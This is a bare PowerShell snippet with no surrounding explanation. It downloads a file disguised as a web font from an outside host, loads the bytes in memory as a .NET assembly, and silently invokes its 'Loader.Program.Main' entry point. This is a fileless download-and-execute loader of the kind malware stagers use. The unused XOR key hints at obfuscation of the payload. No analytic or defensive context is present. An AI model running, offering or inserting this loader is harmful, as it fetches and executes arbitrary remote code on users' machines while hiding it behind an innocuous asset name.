$xorKey = 0x5A
$url = 'https://raw.example-cdn.net/assets/font.woff'
$asm = [System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData($url))
$entry = $asm.GetType('Loader.Program').GetMethod('Main')
$entry.Invoke($null, @(, [string[]]@('--silent')))
